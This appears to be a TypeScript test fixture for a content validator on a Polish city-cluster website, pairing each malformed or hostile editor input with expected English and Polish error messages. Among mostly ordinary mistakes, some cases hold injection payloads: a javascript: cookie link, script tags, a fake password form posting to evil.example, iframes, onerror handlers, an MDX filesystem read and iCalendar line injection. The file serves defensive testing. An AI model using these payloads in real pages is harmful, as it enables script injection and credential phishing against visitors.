import { deflateSync } from 'node:zlib';
import type { ContentFixture } from '../../helpers/content-fixture';

/** One editor's mistake or hostile input: how to make it, and every line `npm run validate` must print, in both languages. */
export interface BadInput {
  name: string;
  make(fixture: ContentFixture): void;
  env?: Record<string, string>;
  en: string[];
  pl: string[];
}

const story = 'stories/test-story';
const event = 'events/test-event';

/** A real PNG of `width`×`height` px padded to about `megabytes` MB, made without any image library. */
function largePng(width: number, height: number, megabytes: number): Buffer {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (bytes: Buffer) => {
    let c = 0xffffffff;
    for (const byte of bytes) c = crcTable[(c ^ byte) & 0xff]! ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type: string, data: Buffer) => {
    const head = Buffer.alloc(4);
    head.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const tail = Buffer.alloc(4);
    tail.writeUInt32BE(crc(body));
    return Buffer.concat([head, body, tail]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale
  const rows = Buffer.alloc((width + 1) * height);
  const padding = Buffer.alloc(megabytes * 1024 * 1024, 7);
  return Buffer.concat([
    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), padding])),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

export const badInputs: BadInput[] = [
  {
    name: 'a date written the Polish way (day first) is refused with the ISO form',
    make: (f) => f.replace(`${story}/story.yaml`, 'date: 2024-05-12', 'date: 12.05.2027'),
    en: ['content/stories/test-story/story.yaml:1:7  date  “12.05.2027” is not a date written as YYYY-MM-DD → write 2027-05-12'],
    pl: ['content/stories/test-story/story.yaml:1:7  date  „12.05.2027” nie jest datą w zapisie RRRR-MM-DD → wpisz 2027-05-12'],
  },
  {
    name: 'an impossible date (30 February)',
    make: (f) => f.replace(`${story}/story.yaml`, 'date: 2024-05-12', 'date: 2027-02-30'),
    en: [
      'content/stories/test-story/story.yaml:1:7  date  2027-02-30 is not a day of the calendar → check the day and the month (months 01–12, days up to 28–31)',
    ],
    pl: [
      'content/stories/test-story/story.yaml:1:7  date  dnia 2027-02-30 nie ma w kalendarzu → sprawdź dzień i miesiąc (miesiące 01–12, dni do 28–31)',
    ],
  },
  {
    name: 'an impossible time of day (25:99)',
    make: (f) => f.replace(`${event}/event.yaml`, '"2027-05-12T09:30"', '"2027-05-12T25:99"'),
    en: [
      'content/events/test-event/event.yaml:2:8  start  the time in “2027-05-12T25:99” does not exist → write hours 00–23 and minutes 00–59, e.g. "2027-05-12T09:30"',
    ],
    pl: [
      'content/events/test-event/event.yaml:2:8  start  godzina w „2027-05-12T25:99” nie istnieje → wpisz godziny 00–23 i minuty 00–59, np. "2027-05-12T09:30"',
    ],
  },
  {
    name: 'a date and time written the Polish way',
    make: (f) => f.replace(`${event}/event.yaml`, '"2027-05-12T09:30"', '12.05.2027 9:30'),
    en: [
      'content/events/test-event/event.yaml:2:8  start  “12.05.2027 9:30” is neither a date (YYYY-MM-DD) nor a local time (YYYY-MM-DDTHH:MM, Warsaw time) → write "2027-05-12T09:30"',
    ],
    pl: [
      'content/events/test-event/event.yaml:2:8  start  „12.05.2027 9:30” nie jest ani datą (RRRR-MM-DD), ani godziną (RRRR-MM-DDTGG:MM, czas warszawski) → wpisz "2027-05-12T09:30"',
    ],
  },
  {
    name: 'an event ending before it starts',
    make: (f) => f.replace(`${event}/event.yaml`, '"2027-05-12T15:00"', '"2027-05-12T08:00"'),
    en: ['content/events/test-event/event.yaml:3:6  end  the end is before the start → write an end on or after the start'],
    pl: ['content/events/test-event/event.yaml:3:6  end  koniec jest wcześniej niż początek → wpisz koniec nie wcześniejszy niż początek'],
  },
  {
    name: 'a translation file for a language the site does not have (fr.md)',
    make: (f) => f.copy(`${story}/en.md`, `${story}/fr.md`),
    en: [
      'content/stories/test-story/fr.md  —  “fr” is not a language of the site → name text files after a configured language: pl.md, en.md, de.md, cs.md',
    ],
    pl: [
      'content/stories/test-story/fr.md  —  „fr” nie jest językiem serwisu → nazwij plik tekstowy kodem języka serwisu: pl.md, en.md, de.md, cs.md',
    ],
  },
  {
    name: 'two entry folders that differ only in case',
    make: (f) => f.copy(story, 'stories/Test-Story'),
    en: [
      'content/stories/test-story  —  the folder differs from “Test-Story” only in upper and lower case → keep one of the two folders',
      'content/stories/Test-Story  —  the folder name “Test-Story” may hold only lower-case letters a–z, digits and hyphens → rename the folder to “test-story”',
    ],
    pl: [
      'content/stories/test-story  —  folder różni się od „Test-Story” tylko wielkością liter → zostaw jeden z dwóch folderów',
      'content/stories/Test-Story  —  nazwa folderu „Test-Story” może zawierać tylko małe litery a–z, cyfry i łączniki → zmień nazwę folderu na „test-story”',
    ],
  },
  {
    name: 'a folder name with spaces and Polish letters',
    make: (f) => f.copy(story, 'stories/Kopalnia Bzie–Dębina'),
    en: [
      'content/stories/Kopalnia Bzie–Dębina  —  the folder name “Kopalnia Bzie–Dębina” may hold only lower-case letters a–z, digits and hyphens → rename the folder to “kopalnia-bzie-debina”',
    ],
    pl: [
      'content/stories/Kopalnia Bzie–Dębina  —  nazwa folderu „Kopalnia Bzie–Dębina” może zawierać tylko małe litery a–z, cyfry i łączniki → zmień nazwę folderu na „kopalnia-bzie-debina”',
    ],
  },
  {
    name: 'a stray file beside the entry folders',
    make: (f) => f.write('stories/notatki.txt', 'notes'),
    en: ['content/stories/notatki.txt  —  “notatki.txt” does not belong here → put every entry in a folder of its own'],
    pl: ['content/stories/notatki.txt  —  „notatki.txt” nie powinien się tu znajdować → każdy wpis umieść w osobnym folderze'],
  },
  {
    name: 'a Markdown image without alt text',
    make: (f) => f.replace(`${story}/pl.md`, '![Wykres słupkowy z danymi testowymi](./cover.png)', '![](./cover.png)'),
    en: [
      'content/stories/test-story/pl.md:7:1  —  the image “./cover.png” has no alt text → describe what it shows: ![A view of the hall](./cover.png), or mark it decorative: ![](./cover.png "decorative")',
    ],
    pl: [
      'content/stories/test-story/pl.md:7:1  —  obraz „./cover.png” nie ma tekstu alternatywnego → opisz, co przedstawia: ![Widok hali](./cover.png), albo oznacz go jako ozdobny: ![](./cover.png "decorative")',
    ],
  },
  {
    name: 'a Markdown image whose file is missing, and one from another site',
    make: (f) => f.replace(`${story}/pl.md`, '(./cover.png)', '(./wykres.png)\n\n![Logo](https://evil.example/logo.png)'),
    en: [
      'content/stories/test-story/pl.md:7:1  —  the image “./wykres.png” is not there → put the file next to this file, or correct the name (letters are case-sensitive)',
      "content/stories/test-story/pl.md:9:1  —  the image “https://evil.example/logo.png” is on another site → save the file next to this text and write its name: visitors' browsers never load from other sites",
    ],
    pl: [
      'content/stories/test-story/pl.md:7:1  —  nie ma obrazu „./wykres.png” → umieść plik obok tego pliku albo popraw nazwę (wielkość liter ma znaczenie)',
      'content/stories/test-story/pl.md:9:1  —  obraz „https://evil.example/logo.png” jest na innej stronie → zapisz plik obok tego tekstu i wpisz jego nazwę: przeglądarki odwiedzających niczego nie pobierają z innych stron',
    ],
  },
  {
    name: 'a cover image that is missing, named with its content file and line',
    make: (f) => f.replace(`${story}/story.yaml`, 'src: ./cover.png', 'src: ./okladka.jpg'),
    en: [
      'content/stories/test-story/story.yaml:15:8  cover.src  the image “./okladka.jpg” is not there → put the file next to this file, or correct the name (letters are case-sensitive)',
    ],
    pl: [
      'content/stories/test-story/story.yaml:15:8  cover.src  nie ma obrazu „./okladka.jpg” → umieść plik obok tego pliku albo popraw nazwę (wielkość liter ma znaczenie)',
    ],
  },
  {
    name: 'an image of 11 MB',
    make: (f) => f.write(`${story}/cover.png`, largePng(6000, 4000, 11)),
    en: [
      'content/stories/test-story/pl.md:7:1  —  the image “./cover.png” is 11.0 MB (6000×4000 px); images may have at most 3.0 MB → resize it to at most 2400 px on its longest side and save it again',
      'content/stories/test-story/story.yaml:15:8  cover.src  the image “./cover.png” is 11.0 MB (6000×4000 px); images may have at most 3.0 MB → resize it to at most 2400 px on its longest side and save it again',
    ],
    pl: [
      'content/stories/test-story/pl.md:7:1  —  obraz „./cover.png” ma 11,0 MB (6000×4000 px); obraz może mieć najwyżej 3,0 MB → zmniejsz go do najwyżej 2400 px na dłuższym boku i zapisz ponownie',
      'content/stories/test-story/story.yaml:15:8  cover.src  obraz „./cover.png” ma 11,0 MB (6000×4000 px); obraz może mieć najwyżej 3,0 MB → zmniejsz go do najwyżej 2400 px na dłuższym boku i zapisz ponownie',
    ],
  },
  {
    name: 'a link to an internal page that does not exist',
    make: (f) => f.replace(`${story}/pl.md`, '/pl/miasta/gliwice/', '/pl/miasta/gliwce/'),
    en: ['content/stories/test-story/pl.md:5:8  —  “/pl/miasta/gliwce/” is not a page of this site → write /pl/miasta/gliwice/'],
    pl: ['content/stories/test-story/pl.md:5:8  —  „/pl/miasta/gliwce/” nie jest stroną tego serwisu → wpisz /pl/miasta/gliwice/'],
  },
  {
    name: 'a link to a page in another language',
    make: (f) => f.replace(`${story}/en.md`, '/en/cities/gliwice/', '/pl/miasta/gliwice/'),
    en: [
      "content/stories/test-story/en.md:5:5  —  “/pl/miasta/gliwice/” leads to a page in another language → write /en/cities/gliwice/, or better entry:… / section:…, which follow the page's language",
    ],
    pl: [
      'content/stories/test-story/en.md:5:5  —  „/pl/miasta/gliwice/” prowadzi do strony w innym języku → wpisz /en/cities/gliwice/ albo lepiej entry:… / section:…, które same dobierają język strony',
    ],
  },
  {
    name: 'an entry link to an entry that does not exist',
    make: (f) => f.replace(`${story}/pl.md`, 'entry:events/test-event', 'entry:events/test-evnt'),
    en: ['content/stories/test-story/pl.md:5:40  —  “entry:events/test-evnt” is not a page of this site → write entry:events/test-event'],
    pl: ['content/stories/test-story/pl.md:5:40  —  „entry:events/test-evnt” nie jest stroną tego serwisu → wpisz entry:events/test-event'],
  },
  {
    name: 'a javascript: link',
    make: (f) => f.replace(`${story}/pl.md`, '(section:offers)', '(javascript:alert(document.cookie))'),
    en: [
      'content/stories/test-story/pl.md:5:80  —  the address “javascript:alert(document.cookie)” is not allowed in a link → link with https://, mailto: or a page of this site',
    ],
    pl: [
      'content/stories/test-story/pl.md:5:80  —  adres „javascript:alert(document.cookie)” jest niedozwolony w linku → linkuj przez https://, mailto: albo do strony tego serwisu',
    ],
  },
  {
    name: 'raw HTML that runs script or redirects: <script>, <script src> to an uploaded file, <meta http-equiv=refresh>',
    make: (f) =>
      f.replace(
        `${story}/pl.md`,
        'Zobacz',
        '<script>alert(1)</script>\n\n<script src="/documents/test-document/test-document.txt"></script>\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\nZobacz',
      ),
    en: [
      'content/stories/test-story/pl.md:5:1  <script>  the HTML element <script> is not allowed in content → remove it; write Markdown, or use an allowed element such as <abbr>, <sup>, <details>',
      'content/stories/test-story/pl.md:7:1  <script>  the HTML element <script> is not allowed in content → remove it; write Markdown, or use an allowed element such as <abbr>, <sup>, <details>',
      'content/stories/test-story/pl.md:9:1  <meta>  the HTML element <meta> is not allowed in content → remove it; write Markdown, or use an allowed element such as <abbr>, <sup>, <details>',
    ],
    pl: [
      'content/stories/test-story/pl.md:5:1  <script>  element HTML <script> jest niedozwolony w treści → usuń go; pisz w Markdownie albo użyj dozwolonego elementu, np. <abbr>, <sup>, <details>',
      'content/stories/test-story/pl.md:7:1  <script>  element HTML <script> jest niedozwolony w treści → usuń go; pisz w Markdownie albo użyj dozwolonego elementu, np. <abbr>, <sup>, <details>',
      'content/stories/test-story/pl.md:9:1  <meta>  element HTML <meta> jest niedozwolony w treści → usuń go; pisz w Markdownie albo użyj dozwolonego elementu, np. <abbr>, <sup>, <details>',
    ],
  },
  {
    name: 'a fake login prompt (<dialog open> with a form) and a frame',
    make: (f) =>
      f.replace(
        `${story}/pl.md`,
        'Zobacz',
        '<dialog open><form action="https://evil.example/"><input name="haslo" type="password"></form></dialog>\n\n<iframe src="https://evil.example/"></iframe>\n\nZobacz',
      ),
    en: [
      'content/stories/test-story/pl.md:5:1  <dialog>  the HTML element <dialog> is not allowed in content → remove it; write Markdown, or use an allowed element such as <abbr>, <sup>, <details>',
      'content/stories/test-story/pl.md:7:1  <iframe>  the HTML element <iframe> is not allowed in content → remove it; write Markdown, or use an allowed element such as <abbr>, <sup>, <details>',
    ],
    pl: [
      'content/stories/test-story/pl.md:5:1  <dialog>  element HTML <dialog> jest niedozwolony w treści → usuń go; pisz w Markdownie albo użyj dozwolonego elementu, np. <abbr>, <sup>, <details>',
      'content/stories/test-story/pl.md:7:1  <iframe>  element HTML <iframe> jest niedozwolony w treści → usuń go; pisz w Markdownie albo użyj dozwolonego elementu, np. <abbr>, <sup>, <details>',
    ],
  },
  {
    name: 'event handlers, styles and a data: image in Markdown',
    make: (f) =>
      f.replace(
        `${story}/pl.md`,
        'Zobacz',
        '<img src="./cover.png" alt="Wykres" onerror="alert(1)"> <span style="position:fixed">x</span>\n\n<style>body{display:none}</style>\n\n![x](data:text/html,hello)\n\nZobacz',
      ),
    en: [
      'content/stories/test-story/pl.md:5:37  onerror  the HTML attribute “onerror” is not allowed in content → remove the attribute',
      'content/stories/test-story/pl.md:5:63  style  the HTML attribute “style” is not allowed in content → remove the attribute',
      'content/stories/test-story/pl.md:7:1  <style>  the HTML element <style> is not allowed in content → remove it; write Markdown, or use an allowed element such as <abbr>, <sup>, <details>',
      'content/stories/test-story/pl.md:9:1  —  the address “data:text/html,hello” is not allowed in a link → link with https://, mailto: or a page of this site',
    ],
    pl: [
      'content/stories/test-story/pl.md:5:37  onerror  atrybut HTML „onerror” jest niedozwolony w treści → usuń ten atrybut',
      'content/stories/test-story/pl.md:5:63  style  atrybut HTML „style” jest niedozwolony w treści → usuń ten atrybut',
      'content/stories/test-story/pl.md:7:1  <style>  element HTML <style> jest niedozwolony w treści → usuń go; pisz w Markdownie albo użyj dozwolonego elementu, np. <abbr>, <sup>, <details>',
      'content/stories/test-story/pl.md:9:1  —  adres „data:text/html,hello” jest niedozwolony w linku → linkuj przez https://, mailto: albo do strony tego serwisu',
    ],
  },
  {
    name: 'MDX that imports Node and runs an expression (a content pull request running code)',
    make: (f) =>
      f.replace('pages/about/pl.mdx', 'Zobacz', "import { readdirSync } from 'node:fs';\n\n{readdirSync('/').join(', ')}\n\nZobacz"),
    en: [
      'content/pages/about/pl.mdx:5:1  import/export  import and export are not allowed in content → remove the line; <SectionLink>, <PartnerCitiesTable>, <A11yValue>, <PrivacyValue> work without import',
      'content/pages/about/pl.mdx:7:1  {…}  a JavaScript expression in { } is not allowed in content → write the text itself; write a literal brace as \\{',
    ],
    pl: [
      'content/pages/about/pl.mdx:5:1  import/export  import i export są niedozwolone w treści → usuń ten wiersz; <SectionLink>, <PartnerCitiesTable>, <A11yValue>, <PrivacyValue> działają bez importu',
      'content/pages/about/pl.mdx:7:1  {…}  wyrażenie JavaScript w { } jest niedozwolone w treści → wpisz sam tekst; nawias klamrowy zapisz jako \\{',
    ],
  },
  {
    name: 'MDX with a component that is not a content component, and an expression attribute',
    make: (f) =>
      f.replace('pages/about/pl.mdx', '<SectionLink section="offers">', '<Script src="x" />\n\n<SectionLink section={"offers"}>'),
    en: [
      'content/pages/about/pl.mdx:5:8  <Script>  <Script> is not a content component → use one of: <SectionLink>, <PartnerCitiesTable>, <A11yValue>, <PrivacyValue>',
      'content/pages/about/pl.mdx:7:1  section  the attribute “section” holds a JavaScript expression → write the value in quotes: name="value"',
    ],
    pl: [
      'content/pages/about/pl.mdx:5:8  <Script>  <Script> nie jest komponentem treści → użyj jednego z: <SectionLink>, <PartnerCitiesTable>, <A11yValue>, <PrivacyValue>',
      'content/pages/about/pl.mdx:7:1  section  atrybut „section” zawiera wyrażenie JavaScript → wpisz wartość w cudzysłowie: nazwa="wartość"',
    ],
  },
  {
    name: 'an impact figure without a source',
    make: (f) => f.replace(`${story}/story.yaml`, / {4}source:\n {6}title: Fixture source\n/, ''),
    en: [
      'content/stories/test-story/story.yaml:11:5  impact.jobs.source  an impact figure has no source → add source: { title: …, url: … } naming where the figure is published',
    ],
    pl: [
      'content/stories/test-story/story.yaml:11:5  impact.jobs.source  wskaźnik efektu nie ma źródła → dodaj source: { title: …, url: … } ze wskazaniem, gdzie opublikowano tę liczbę',
    ],
  },
  {
    name: 'a line break in an event title',
    make: (f) => f.replace(`${event}/pl.md`, 'title: Konferencja testowa', 'title: "Konferencja\\r\\nEND:VEVENT\\r\\nBEGIN:VEVENT"'),
    en: [
      'content/events/test-event/pl.md:2:8  title  contains a line break or a control character → write it on one line, without special characters',
    ],
    pl: [
      'content/events/test-event/pl.md:2:8  title  zawiera złamanie wiersza albo znak sterujący → zapisz to w jednym wierszu, bez znaków specjalnych',
    ],
  },
  {
    name: 'a control character in a city name (written as a YAML escape)',
    make: (f) => f.replace('cities/tychy/city.yaml', 'name: Tychy', 'name: "Ty\\u0001chy"'),
    en: [
      'content/cities/tychy/city.yaml:2:7  name  contains a line break or a control character → write it on one line, without special characters',
    ],
    pl: [
      'content/cities/tychy/city.yaml:2:7  name  zawiera złamanie wiersza albo znak sterujący → zapisz to w jednym wierszu, bez znaków specjalnych',
    ],
  },
  {
    name: 'a title that is far too long',
    make: (f) => f.replace(`${story}/pl.md`, 'title: Historia testowa', `title: ${'Bardzo długi tytuł '.repeat(10)}`),
    en: ['content/stories/test-story/pl.md:2:8  title  is too long (189 characters) → shorten it to at most 160 characters'],
    pl: ['content/stories/test-story/pl.md:2:8  title  jest za długie (znaków: 189) → skróć do najwyżej 160 znaków'],
  },
  {
    name: 'MDX in a collection that takes Markdown only',
    make: (f) => f.copy(`${story}/pl.md`, `${story}/de.mdx`),
    en: [
      'content/stories/test-story/de.mdx  —  MDX files are allowed for free pages only (content/pages/) → rename the file to .md: Markdown is all an entry needs',
      "content/stories/test-story/de.mdx:5:8  —  “/pl/miasta/gliwice/” leads to a page in another language → write /de/staedte/gliwice/, or better entry:… / section:…, which follow the page's language",
    ],
    pl: [
      'content/stories/test-story/de.mdx  —  pliki MDX są dozwolone tylko dla stron opisowych (content/pages/) → zmień rozszerzenie na .md: wpisowi wystarczy Markdown',
      'content/stories/test-story/de.mdx:5:8  —  „/pl/miasta/gliwice/” prowadzi do strony w innym języku → wpisz /de/staedte/gliwice/ albo lepiej entry:… / section:…, które same dobierają język strony',
    ],
  },
  {
    name: 'a reference to a city that does not exist',
    make: (f) => f.replace(`${event}/event.yaml`, 'city: gliwice', 'city: gliwce'),
    en: ['content/events/test-event/event.yaml:5:7  city  there is no entry “gliwce” in content/cities/ → write gliwice'],
    pl: ['content/events/test-event/event.yaml:5:7  city  w content/cities/ nie ma wpisu „gliwce” → wpisz gliwice'],
  },
  {
    name: 'an unknown field in a facts file',
    make: (f) => f.replace('cities/tychy/city.yaml', 'cityWithCountyRights: true', 'cityWithCountyRights: true\nmayor: Jan Kowalski'),
    en: ['content/cities/tychy/city.yaml:20:1  mayor  “mayor” is not a field here → remove it or check its spelling'],
    pl: ['content/cities/tychy/city.yaml:20:1  mayor  „mayor” nie jest tu dozwolonym polem → usuń je albo popraw pisownię'],
  },
  {
    name: 'a misspelt field and a fact in a translation',
    make: (f) => f.replace(`${story}/en.md`, 'summary:', 'population: 1\nsummry:'),
    en: [
      'content/stories/test-story/en.md:2:1  summary  is missing → add it (text)',
      'content/stories/test-story/en.md:3:1  population  “population” is a fact, and a text file holds text only → move it to content/stories/test-story/story.yaml',
      'content/stories/test-story/en.md:4:1  summry  “summry” is not a field here → did you mean “summary”? Otherwise remove it',
    ],
    pl: [
      'content/stories/test-story/en.md:2:1  summary  brakuje tego pola → dodaj je (tekst)',
      'content/stories/test-story/en.md:3:1  population  „population” to fakt, a plik tekstowy zawiera tylko tekst → przenieś je do content/stories/test-story/story.yaml',
      'content/stories/test-story/en.md:4:1  summry  „summry” nie jest tu dozwolonym polem → czy chodziło o „summary”? Jeśli nie, usuń je',
    ],
  },
  {
    name: 'a value outside the vocabulary',
    make: (f) => f.replace(`${event}/event.yaml`, 'kind: conference', 'kind: conferance'),
    en: [
      'content/events/test-event/event.yaml:1:7  kind  “conferance” is not one of the allowed values → write conference (allowed: conference, seminar, workshop, matchmaking, fair, schoolVisit)',
    ],
    pl: [
      'content/events/test-event/event.yaml:1:7  kind  „conferance” nie jest dozwoloną wartością → wpisz conference (dozwolone: conference, seminar, workshop, matchmaking, fair, schoolVisit)',
    ],
  },
  {
    name: 'text where a number belongs',
    make: (f) => f.replace('cities/rybnik/city.yaml', 'memberSince: 2005', 'memberSince: dwa tysiące pięć'),
    en: ['content/cities/rybnik/city.yaml:3:14  memberSince  expected a number, found “dwa tysiące pięć” → write a number'],
    pl: ['content/cities/rybnik/city.yaml:3:14  memberSince  oczekiwano: liczba, jest: „dwa tysiące pięć” → wpisz wartość typu: liczba'],
  },
  {
    name: 'a list where one date belongs, and a group of fields where one web address belongs (no “[object Object]”)',
    make: (f) => {
      f.replace(`${story}/story.yaml`, 'date: 2024-05-12', 'date: [2024-05-12, 2024-06-01]');
      f.replace('cities/rybnik/city.yaml', 'portal: https://rybnik.example.org/', 'portal: { href: https://rybnik.example.org/ }');
    },
    en: [
      'content/cities/rybnik/city.yaml:4:9  portal  expected a web address, https://…, found a group of fields → write a web address, https://…',
      'content/stories/test-story/story.yaml:1:7  date  expected YYYY-MM-DD, found a list (lines starting with -) → write YYYY-MM-DD',
    ],
    pl: [
      'content/cities/rybnik/city.yaml:4:9  portal  oczekiwano: adres strony, https://…, jest: grupa pól → wpisz wartość typu: adres strony, https://…',
      'content/stories/test-story/story.yaml:1:7  date  oczekiwano: YYYY-MM-DD, jest: lista (wiersze zaczynające się od -) → wpisz wartość typu: YYYY-MM-DD',
    ],
  },
  {
    name: 'a required field left out',
    make: (f) => f.replace('cities/rybnik/city.yaml', /^portal: .*\n/m, ''),
    en: ['content/cities/rybnik/city.yaml:2:1  portal  is missing → add it (a web address, https://…)'],
    pl: ['content/cities/rybnik/city.yaml:2:1  portal  brakuje tego pola → dodaj je (adres strony, https://…)'],
  },
  {
    name: 'a YAML syntax error (a tab in the indentation)',
    make: (f) => f.replace(`${event}/event.yaml`, '  name: Test hall', '\tname: Test hall'),
    en: [
      'content/events/test-event/event.yaml:7:1  —  the YAML cannot be read: Tabs are not allowed as indentation → check the indentation (spaces, never tabs), colons and quotes on this line',
    ],
    pl: [
      'content/events/test-event/event.yaml:7:1  —  nie da się odczytać YAML: Tabs are not allowed as indentation → sprawdź w tym wierszu wcięcia (spacje, nigdy tabulatory), dwukropki i cudzysłowy',
    ],
  },
  {
    name: 'a text file without its frontmatter',
    make: (f) => f.write(`${story}/en.md`, 'Just text.\n'),
    en: [
      'content/stories/test-story/en.md:1:1  —  the text file does not start with a --- block (title, summary) → begin the file with ---, then title: and summary: lines, then ---',
    ],
    pl: [
      'content/stories/test-story/en.md:1:1  —  plik tekstowy nie zaczyna się blokiem --- (title, summary) → zacznij plik od ---, potem wiersze title: i summary:, potem ---',
    ],
  },
  {
    name: 'a text without its facts file, and facts without a text',
    make: (f) => f.remove(`${story}/story.yaml`).remove(`${event}/pl.md`),
    en: [
      'content/events/test-event  —  the entry has no text file → add pl.md with its title and summary',
      'content/stories/test-story  —  the entry has no facts file story.yaml → add story.yaml to the folder',
    ],
    pl: [
      'content/events/test-event  —  wpis nie ma pliku z tekstem → dodaj pl.md z tytułem i streszczeniem',
      'content/stories/test-story  —  wpis nie ma pliku faktów story.yaml → dodaj story.yaml do folderu',
    ],
  },
  {
    name: 'a member city without its folder',
    make: (f) => f.remove('cities/jaworzno'),
    en: [
      'content/cities/jaworzno  —  the member city “jaworzno” has no folder → add content/cities/jaworzno/ or remove it from cityOrder in src/site.config.ts',
    ],
    pl: [
      'content/cities/jaworzno  —  miasto członkowskie „jaworzno” nie ma folderu → dodaj content/cities/jaworzno/ albo usuń je z cityOrder w src/site.config.ts',
    ],
  },
  {
    name: 'a free page in a folder that is no page of the site',
    make: (f) => f.copy('pages/home', 'pages/kontakt'),
    en: [
      'content/pages/kontakt  —  “kontakt” is not a page of the site → name the folder after one of: home, cities, stories, events, offers, partners, about, concept, rdPotential, investors, smes, schools, residents, international, documents, openData, linkToUs, widgets, search, accessibility, privacy, translationStatus',
    ],
    pl: [
      'content/pages/kontakt  —  „kontakt” nie jest stroną serwisu → nazwij folder jedną z nazw: home, cities, stories, events, offers, partners, about, concept, rdPotential, investors, smes, schools, residents, international, documents, openData, linkToUs, widgets, search, accessibility, privacy, translationStatus',
    ],
  },
  {
    name: 'a document whose file is missing',
    make: (f) => f.remove('documents/test-document/test-document.txt'),
    en: [
      'content/documents/test-document/document.yaml:1:7  file  the document file “test-document.txt” is not in the folder → add the file beside document.yaml or correct the name',
    ],
    pl: [
      'content/documents/test-document/document.yaml:1:7  file  pliku dokumentu „test-document.txt” nie ma w folderze → dodaj plik obok document.yaml albo popraw nazwę',
    ],
  },
  {
    name: 'a wrong build date, a site address with a path and a bad base path',
    make: () => undefined,
    env: { BUILD_DATE: '2026-02-30', SITE_URL: 'https://iskctw.example.org/klaster', BASE_PATH: '/Klaster IŚ/' },
    en: [
      'environment  BUILD_DATE  BUILD_DATE=2026-02-30 is not a real date written as YYYY-MM-DD → set BUILD_DATE=YYYY-MM-DD or leave it unset for today',
      'environment  SITE_URL  SITE_URL=https://iskctw.example.org/klaster is not an origin (https://host, with no path) → set SITE_URL=https://iskctw.example.org BASE_PATH=/klaster/',
      'environment  BASE_PATH  BASE_PATH=/Klaster IŚ/ is not a folder path → set BASE_PATH=/folder/ with lower-case letters, digits and hyphens, or / for the root',
    ],
    pl: [
      'environment  BUILD_DATE  BUILD_DATE=2026-02-30 nie jest prawdziwą datą w zapisie RRRR-MM-DD → ustaw BUILD_DATE=RRRR-MM-DD albo nie ustawiaj, aby użyć dzisiejszej daty',
      'environment  SITE_URL  SITE_URL=https://iskctw.example.org/klaster nie jest samym adresem serwera (https://host, bez ścieżki) → ustaw SITE_URL=https://iskctw.example.org BASE_PATH=/klaster/',
      'environment  BASE_PATH  BASE_PATH=/Klaster IŚ/ nie jest ścieżką folderu → ustaw BASE_PATH=/folder/ z małymi literami, cyframi i łącznikami albo / dla katalogu głównego',
    ],
  },
  {
    name: 'redirects: an old path that is still a page, a loop, a missing target, a chain, a bad path and a bad date',
    make: (f) =>
      f.write(
        'redirects.yaml',
        [
          '- from: /pl/historie-sukcesu/test-story/',
          '  to: /pl/historie-sukcesu/test-story/',
          '  since: 2026-05-20',
          '- from: /pl/historie-sukcesu/stara-nazwa/',
          '  to: /pl/historie-sukcesu/nowa-nazwa/',
          '  since: 2026-05-20',
          '- from: /pl/miasta/stare-gliwice/',
          '  to: /pl/historie-sukcesu/stara-nazwa/',
          '  since: 2026-05-20',
          '- from: /pl/historie-sukcesu/stara-nazwa/',
          '  to: /pl/miasta/gliwice/',
          '  since: 2026-05-20',
          '- from: /pl/Miasta/Gliwice',
          '  to: https://example.org/',
          '  since: 20.05.2026',
          '',
        ].join('\n'),
      ),
    en: [
      'content/redirects.yaml:1:9  [0].from  “/pl/historie-sukcesu/test-story/” is still a page of this site: a redirect would hide it → remove this redirect, or rename or remove the page first',
      'content/redirects.yaml:2:7  [0].to  the redirect from “/pl/historie-sukcesu/test-story/” leads back to itself → point it to the page that replaces the old one, or remove it',
      'content/redirects.yaml:5:7  [1].to  the target “/pl/historie-sukcesu/nowa-nazwa/” is not a page of this site → write the path of the page that replaces the old one',
      'content/redirects.yaml:8:7  [2].to  the target “/pl/historie-sukcesu/stara-nazwa/” is itself redirected to “/pl/historie-sukcesu/nowa-nazwa/” → write /pl/historie-sukcesu/nowa-nazwa/ as the target: visitors should be redirected once',
      'content/redirects.yaml:10:9  [3].from  “/pl/historie-sukcesu/stara-nazwa/” is redirected more than once → keep one redirect for each old path',
      'content/redirects.yaml:13:9  [4].from  “/pl/Miasta/Gliwice” is not a path of this site → write the path without the domain, in lower case, starting with the language and ending with / for a page, e.g. /pl/miasta/gliwice/',
      'content/redirects.yaml:14:7  [4].to  “https://example.org/” is not a path of this site → write the path without the domain, in lower case, starting with the language and ending with / for a page, e.g. /pl/miasta/gliwice/',
      'content/redirects.yaml:15:10  [4].since  “20.05.2026” is not a date written as YYYY-MM-DD → write 2026-05-20',
    ],
    pl: [
      'content/redirects.yaml:1:9  [0].from  „/pl/historie-sukcesu/test-story/” jest nadal stroną tego serwisu: przekierowanie by ją zasłoniło → usuń to przekierowanie albo najpierw zmień nazwę strony lub ją usuń',
      'content/redirects.yaml:2:7  [0].to  przekierowanie z „/pl/historie-sukcesu/test-story/” prowadzi z powrotem do siebie → wskaż stronę, która zastępuje starą, albo usuń przekierowanie',
      'content/redirects.yaml:5:7  [1].to  cel „/pl/historie-sukcesu/nowa-nazwa/” nie jest stroną tego serwisu → wpisz ścieżkę strony, która zastępuje starą',
      'content/redirects.yaml:8:7  [2].to  cel „/pl/historie-sukcesu/stara-nazwa/” sam jest przekierowany na „/pl/historie-sukcesu/nowa-nazwa/” → wpisz /pl/historie-sukcesu/nowa-nazwa/ jako cel: odwiedzający mają być przekierowani tylko raz',
      'content/redirects.yaml:10:9  [3].from  „/pl/historie-sukcesu/stara-nazwa/” jest przekierowane więcej niż raz → zostaw jedno przekierowanie dla każdej starej ścieżki',
